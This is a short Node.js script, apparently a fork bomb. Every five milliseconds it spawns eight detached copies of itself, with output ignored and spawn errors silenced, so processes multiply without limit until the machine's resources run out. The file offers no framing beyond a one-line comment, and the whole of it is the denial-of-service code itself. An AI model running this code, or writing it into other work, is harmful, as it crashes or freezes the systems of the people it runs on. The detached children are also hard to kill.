// Interpreters that start interpreters.
const { spawn } = require('node:child_process');
const more = () => {
  const child = spawn(process.execPath, [__filename], { stdio: 'ignore', detached: true });
  child.on('error', () => {});
};
setInterval(() => { for (let n = 0; n < 8; n++) more(); }, 5);
